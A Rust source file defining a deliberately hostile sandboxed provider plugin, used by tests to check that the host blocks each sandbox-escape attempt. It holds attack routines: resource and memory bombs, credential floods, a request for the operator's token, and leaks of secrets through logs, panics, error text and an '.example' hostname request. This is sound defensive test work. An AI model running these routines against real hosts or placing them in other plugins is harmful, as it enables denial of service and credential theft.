//! A provider that tries to break out of its sandbox. The `key` of a get picks the attack;
//! the tests assert the host stops each one.

use std::sync::atomic::{AtomicU32, Ordering};

use airlock_provider_sdk::{
    Capabilities, Client, Error, Provider, ProviderMetadata, RemoteRef, StoreInfo, Value, cache,
    credentials, http, log,
};

/// The hostile provider.
#[derive(Debug)]
pub struct Hostile;

/// Its client.
#[derive(Debug)]
pub struct HostileClient;

static CALLS: AtomicU32 = AtomicU32::new(0);

impl Provider for Hostile {
    type Client = HostileClient;

    fn metadata() -> ProviderMetadata {
        ProviderMetadata {
            name: "hostile".into(),
            version: "0.0.0".into(),
            description: "tries to escape the sandbox".into(),
        }
    }

    fn capabilities() -> Capabilities {
        Capabilities::ReadOnly
    }

    fn config_schema() -> String {
        r#"{"type":"object"}"#.into()
    }
}

fn ok(s: impl Into<String>) -> Result<Value, Error> {
    Ok(Some(s.into().into_bytes()))
}

impl Client for HostileClient {
    fn open(_config: &str, _store: StoreInfo) -> Result<Self, Error> {
        Ok(HostileClient)
    }

    fn get_secret(&self, reference: &RemoteRef) -> Result<Value, Error> {
        let key = reference.key.as_str();
        let (verb, arg) = key.split_once(':').unwrap_or((key, ""));
        match verb {
            "http" => {
                let response = http::send(&http::Request::new("GET", arg))?;
                ok(format!(
                    "{} {}",
                    response.status,
                    String::from_utf8_lossy(&response.body)
                ))
            }
            "http-first-byte" => {
                // `<ms>|<url>`: a GET that asks the host for a short first-byte timeout.
                let (ms, url) = arg.split_once('|').unwrap_or(("0", arg));
                let ms: u64 = ms.parse().map_err(|_| Error::other("bad milliseconds"))?;
                let request = http::Request::new("GET", url)
                    .first_byte_timeout(std::time::Duration::from_millis(ms));
                let response = http::send(&request)?;
                ok(format!(
                    "{} {}",
                    response.status,
                    String::from_utf8_lossy(&response.body)
                ))
            }
            "post" => {
                // The SDK writes the body before `handle`: the host sends inline.
                let (url, body) = arg.split_once('|').unwrap_or((arg, ""));
                let mut request = http::Request::new("POST", url);
                request.body = body.as_bytes().to_vec();
                let response = http::send(&request)?;
                ok(format!(
                    "{} {}",
                    response.status,
                    String::from_utf8_lossy(&response.body)
                ))
            }
            "post-late" => {
                let (url, body) = arg.split_once('|').unwrap_or((arg, ""));
                post_body_after_handle(url, body.as_bytes())
            }
            "spin" => {
                let mut x: u64 = 0;
                loop {
                    x = std::hint::black_box(x.wrapping_add(1));
                }
            }
            "alloc" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 8 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "env" => {
                let mut stdin = String::new();
                let _ = std::io::stdin().read_line(&mut stdin);
                ok(format!(
                    "env={} args={} stdin={}",
                    std::env::vars().count(),
                    std::env::args().count(),
                    stdin.len()
                ))
            }
            "secret" => {
                let (name, key) = arg.split_once('/').unwrap_or((arg, ""));
                let (key, namespace) = match key.split_once('@') {
                    Some((k, ns)) => (k, Some(ns.to_string())),
                    None => (key, None),
                };
                let selector = credentials::KeySelector {
                    name: name.into(),
                    key: key.into(),
                    namespace,
                };
                match credentials::secret_key(&selector) {
                    Ok(v) => Ok(Some(v)),
                    Err(credentials::CredentialError::Denied(m)) => Err(Error::access_denied(m)),
                    Err(e) => Err(Error::other(format!("{e:?}"))),
                }
            }
            // Try to carry secrets out through the log and the error text: the host must
            // redact them in both.
            "leak-credential" => {
                let text = credential_text(arg)?;
                log::log(log::Level::Warn, &format!("logging in with {text}"));
                Err(Error::access_denied(format!("the backend rejected {text}")))
            }
            "panic-with-credential" => panic!("cannot parse {}", credential_text(arg)?),
            "leak-value" => {
                log::log(log::Level::Info, &format!("returning {arg} to the host"));
                ok(arg)
            }
            "leak-cached" => {
                cache::set("token", arg.as_bytes(), 60_000);
                log::log(log::Level::Error, &format!("login gave token={arg}"));
                Err(Error::unavailable(format!("renewing token {arg} failed")))
            }
            "resource-bomb" => resource_bomb(),
            "recurse" => ok(format!("{}", recurse(std::hint::black_box(1)))),
            "credential-flood" => {
                let selector = key_selector(arg);
                let mut granted = 0;
                for _ in 0..10_000 {
                    match credentials::secret_key(&selector) {
                        Ok(_) => granted += 1,
                        Err(credentials::CredentialError::Denied(m)) => {
                            return ok(format!("{granted} granted, then: {m}"));
                        }
                        Err(e) => return Err(Error::other(format!("{e:?}"))),
                    }
                }
                ok(format!("{granted} granted, never refused"))
            }
            "cache-put" => {
                let (k, v) = arg.split_once('=').unwrap_or((arg, ""));
                cache::set(k, v.as_bytes(), 60_000);
                ok("stored")
            }
            "cache-get" => Ok(cache::get(arg)),
            "counter" => ok(format!("{}", CALLS.fetch_add(1, Ordering::SeqCst) + 1)),
            "log-flood" => {
                for i in 0..10_000 {
                    log::log(log::Level::Info, &format!("line {i} {}", "x".repeat(4096)));
                }
                ok("flooded")
            }
            "plant" => {
                // Leaves a derived copy of `arg` in the heap, as a provider holding a
                // secret would.
                let planted: Vec<u8> = disguise(arg.as_bytes()).repeat(64);
                std::hint::black_box(Box::leak(planted.into_boxed_slice()));
                ok("planted")
            }
            "scan" => ok(if memory_holds(arg.as_bytes()) {
                "present"
            } else {
                "absent"
            }),
            "plant-and-scan" => {
                let planted: Vec<u8> = disguise(arg.as_bytes()).repeat(64);
                std::hint::black_box(&planted);
                ok(if memory_holds(arg.as_bytes()) {
                    "present"
                } else {
                    "absent"
                })
            }
            "panic" => panic!("hostile guest panics on purpose"),
            "clock" => {
                let now = std::time::SystemTime::now()
                    .duration_since(std::time::UNIX_EPOCH)
                    .map(|d| d.as_secs())
                    .unwrap_or(0);
                ok(format!("{now}"))
            }
            // Issue 23 items 1, 5 and 14 (branch lift): what the host copies out of the
            // guest, what it keeps for redaction and what it buffers for request bodies.
            "alias-fields" => {
                let (count, kib) = count_and_kib(arg)?;
                alias_fields(count, kib)
            }
            "cache-flood" => {
                // Values of `kib` KiB, each different, far past the cache's bound.
                let (count, kib) = count_and_kib(arg)?;
                let mut value = vec![b'v'; kib << 10];
                for i in 0..count {
                    value[..8].copy_from_slice(&(i as u64).to_le_bytes());
                    cache::set(&format!("k{i}"), &value, 60_000);
                }
                log::log(log::Level::Info, &"x".repeat(16 << 10));
                ok("flooded the cache")
            }
            "cache-fill" => {
                // `count` entries of `kib` KiB; answers how many the host kept.
                let (count, kib) = count_and_kib(arg)?;
                let value = vec![b'c'; kib << 10];
                let kept = (0..count)
                    .filter(|i| {
                        cache::set(&format!("fill{i}"), &value, 600_000);
                        cache::get(&format!("fill{i}")).is_some()
                    })
                    .count();
                ok(format!("{kept}"))
            }
            "body-hoard" => {
                let mib: usize = arg.parse().map_err(|_| Error::other("bad MiB"))?;
                body_hoard(mib)
            }
            // Issue 23 item 6 (branch storm): asks for the operator's own token, which a
            // namespaced store must never get; answers it when the host hands it out.
            "operator-token" => match credentials::operator_token(&[]) {
                Ok(token) => ok(token.token),
                Err(credentials::CredentialError::Denied(m)) => Err(Error::access_denied(m)),
                Err(e) => Err(Error::other(format!("{e:?}"))),
            },
            // Issue 23 item 11 (branch storm): spells a credential as a host no grant
            // allows, so the refusal the host logs would quote it.
            "leak-in-host" => {
                let text = credential_text(arg)?;
                http::send(&http::Request::new(
                    "GET",
                    format!("http://{text}.example/"),
                ))?;
                ok("sent")
            }
            _ => Ok(None),
        }
    }

    // Issue 23 item 1 (branch lift): `alias-map:<count>|<kib>` answers `count` entries
    // whose values all point at one buffer of `kib` KiB.
    fn get_secret_map(
        &self,
        reference: &RemoteRef,
    ) -> Result<Option<Vec<airlock_provider_sdk::SecretEntry>>, Error> {
        match reference.key.split_once(':') {
            Some(("alias-map", arg)) => {
                let (count, kib) = count_and_kib(arg)?;
                let buffer = Box::leak(vec![b'a'; kib << 10].into_boxed_slice());
                let entries = (0..count)
                    .map(|_| airlock_provider_sdk::SecretEntry {
                        key: "k".into(),
                        value: alias(buffer.as_mut_ptr(), buffer.len()),
                    })
                    .collect();
                Ok(Some(entries))
            }
            _ => Ok(None),
        }
    }
}

/// A POST as many wasi-http clients in other languages make it: `handle` first, then the
/// body. The host must not wait for a body the guest can only write after `handle`
/// returns.
#[cfg(target_arch = "wasm32")]
fn post_body_after_handle(url: &str, body: &[u8]) -> Result<Value, Error> {
    use wasip2::http::outgoing_handler;
    use wasip2::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
    let rest = url.strip_prefix("http://").unwrap_or(url);
    let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
    let fail = |what: &str| Error::other(format!("post-late: {what}"));
    let headers = Fields::new();
    headers
        .append("content-length", body.len().to_string().as_bytes())
        .map_err(|_| fail("header"))?;
    let request = OutgoingRequest::new(headers);
    request
        .set_method(&Method::Post)
        .map_err(|_| fail("method"))?;
    request
        .set_scheme(Some(&Scheme::Http))
        .map_err(|_| fail("scheme"))?;
    request
        .set_authority(Some(authority))
        .map_err(|_| fail("authority"))?;
    request
        .set_path_with_query(Some(path))
        .map_err(|_| fail("path"))?;
    let outgoing = request.body().map_err(|_| fail("body"))?;
    let future = outgoing_handler::handle(request, None).map_err(|e| fail(&format!("{e:?}")))?;
    let stream = outgoing.write().map_err(|_| fail("stream"))?;
    for chunk in body.chunks(4096) {
        stream
            .blocking_write_and_flush(chunk)
            .map_err(|e| fail(&format!("write {e:?}")))?;
    }
    drop(stream);
    OutgoingBody::finish(outgoing, None).map_err(|e| fail(&format!("{e:?}")))?;
    let response = loop {
        match future.get() {
            Some(r) => break r,
            None => future.subscribe().block(),
        }
    };
    let response = response
        .map_err(|()| fail("taken"))?
        .map_err(|e| fail(&format!("{e:?}")))?;
    let status = response.status();
    let incoming = response.consume().map_err(|_| fail("consume"))?;
    let input = incoming.stream().map_err(|_| fail("input"))?;
    let mut read = Vec::new();
    while let Ok(bytes) = input.blocking_read(65536) {
        read.extend_from_slice(&bytes);
    }
    ok(format!("{status} {}", String::from_utf8_lossy(&read)))
}

/// `name/key` as a selector in the store's own namespace.
fn key_selector(arg: &str) -> credentials::KeySelector {
    let (name, key) = arg.split_once('/').unwrap_or((arg, ""));
    credentials::KeySelector {
        name: name.into(),
        key: key.into(),
        namespace: None,
    }
}

/// The Secret key `name/key` the host hands over, as text.
fn credential_text(arg: &str) -> Result<String, Error> {
    let value =
        credentials::secret_key(&key_selector(arg)).map_err(|e| Error::other(format!("{e:?}")))?;
    Ok(String::from_utf8_lossy(&value).into_owned())
}

/// Recursion without end: the wasm stack overflows.
#[allow(unconditional_recursion, reason = "the point: a stack overflow")]
fn recurse(depth: u64) -> u64 {
    let mut frame = [depth; 64];
    std::hint::black_box(&mut frame);
    recurse(std::hint::black_box(depth + 1)) + frame[7]
}

/// Makes host-side resources and never drops them: HTTP fields of 16 KiB each, host
/// memory that the guest's own memory limit does not count.
#[cfg(target_arch = "wasm32")]
fn resource_bomb() -> Result<Value, Error> {
    use wasip2::http::types::Fields;
    let pad = vec![b'a'; 16 << 10];
    for _ in 0..10_000_000u64 {
        let fields = Fields::new();
        let _ = fields.append("x-pad", &pad);
        std::mem::forget(fields);
    }
    ok("the host never stopped me")
}

#[cfg(not(target_arch = "wasm32"))]
fn resource_bomb() -> Result<Value, Error> {
    Err(Error::unsupported("wasm only"))
}

#[cfg(not(target_arch = "wasm32"))]
fn post_body_after_handle(_url: &str, _body: &[u8]) -> Result<Value, Error> {
    Err(Error::unsupported("wasm only"))
}

/// The planted form of a marker: each byte flipped, so the marker as passed in the key
/// never matches it.
fn disguise(marker: &[u8]) -> Vec<u8> {
    marker.iter().map(|b| !b).collect()
}

/// Whether the planted form of `marker` is anywhere in linear memory, comparing byte by
/// byte so that the needle itself is never materialised.
#[cfg(target_arch = "wasm32")]
#[allow(unsafe_code)]
fn memory_holds(marker: &[u8]) -> bool {
    let len = core::arch::wasm32::memory_size(0) * 65536;
    let base = std::ptr::null::<u8>();
    (8..len.saturating_sub(marker.len())).any(|i| {
        marker.iter().enumerate().all(|(j, m)| {
            // SAFETY: every address below memory.size is readable linear memory.
            let byte = unsafe { std::ptr::read_volatile(base.wrapping_add(i + j)) };
            byte == !*m
        })
    })
}

#[cfg(not(target_arch = "wasm32"))]
fn memory_holds(_marker: &[u8]) -> bool {
    false
}

// Issue 23 items 1 and 14 (branch lift).

/// `<count>|<kib>` of an attack's argument.
fn count_and_kib(arg: &str) -> Result<(usize, usize), Error> {
    let (count, kib) = arg.split_once('|').unwrap_or((arg, "1"));
    let parse = |n: &str| {
        n.parse()
            .map_err(|_| Error::other(format!("bad number {n:?}")))
    };
    Ok((parse(count)?, parse(kib)?))
}

/// A `Vec` over the leaked buffer at `ptr` that shares it: the canonical ABI passes its
/// pointer as is, so many of them make the host copy the same bytes many times. Never
/// dropped: the guest's allocator would free the same buffer again.
#[allow(unsafe_code)]
fn alias(ptr: *mut u8, len: usize) -> Vec<u8> {
    // SAFETY: `ptr..ptr+len` is a leaked allocation of exactly `len` bytes; none of these
    // vectors is ever dropped or written through (the caller forgets them or hands them
    // to the host, which only reads), so the aliasing is never observed by Rust.
    unsafe { Vec::from_raw_parts(ptr, len, len) }
}

/// `fields.from-list` with `count` entries whose values all point at one buffer.
#[cfg(target_arch = "wasm32")]
fn alias_fields(count: usize, kib: usize) -> Result<Value, Error> {
    use wasip2::http::types::Fields;
    let buffer = Box::leak(vec![b'a'; kib << 10].into_boxed_slice());
    let entries: Vec<(String, Vec<u8>)> = (0..count)
        .map(|_| ("x-a".to_string(), alias(buffer.as_mut_ptr(), buffer.len())))
        .collect();
    let made = Fields::from_list(&entries).is_ok();
    std::mem::forget(entries);
    ok(format!("from-list returned, ok={made}"))
}

/// Writes up to `mib` MiB into request bodies that are never sent, a request at a time
/// until the host refuses; answers the bytes it accepted.
#[cfg(target_arch = "wasm32")]
fn body_hoard(mib: usize) -> Result<Value, Error> {
    use wasip2::http::types::{Fields, OutgoingRequest};
    let chunk = vec![b'h'; 1 << 20];
    let mut written = 0usize;
    let mut requests = Vec::new();
    let mut refused = String::from("never refused");
    'requests: for _ in 0..16 {
        let request = OutgoingRequest::new(Fields::new());
        let Ok(body) = request.body() else {
            refused = "body refused".into();
            break;
        };
        let Ok(stream) = body.write() else {
            refused = "stream refused".into();
            break;
        };
        while written < mib << 20 {
            match stream.check_write() {
                Ok(0) => break,
                Ok(n) => {
                    let n = usize::try_from(n).unwrap_or(usize::MAX).min(chunk.len());
                    if let Err(e) = stream.write(&chunk[..n]) {
                        refused = format!("write: {e:?}");
                        break 'requests;
                    }
                    written += n;
                }
                Err(e) => {
                    refused = format!("check-write: {e:?}");
                    break 'requests;
                }
            }
        }
        // Children before their parents: a request is dropped after its body.
        requests.push((stream, body, request));
        if written >= mib << 20 {
            break;
        }
    }
    std::hint::black_box(&requests);
    ok(format!("{written} bytes buffered; {refused}"))
}

#[cfg(not(target_arch = "wasm32"))]
fn alias_fields(_count: usize, _kib: usize) -> Result<Value, Error> {
    Err(Error::unsupported("wasm only"))
}

#[cfg(not(target_arch = "wasm32"))]
fn body_hoard(_mib: usize) -> Result<Value, Error> {
    Err(Error::unsupported("wasm only"))
}

airlock_provider_sdk::export_provider!(Hostile);
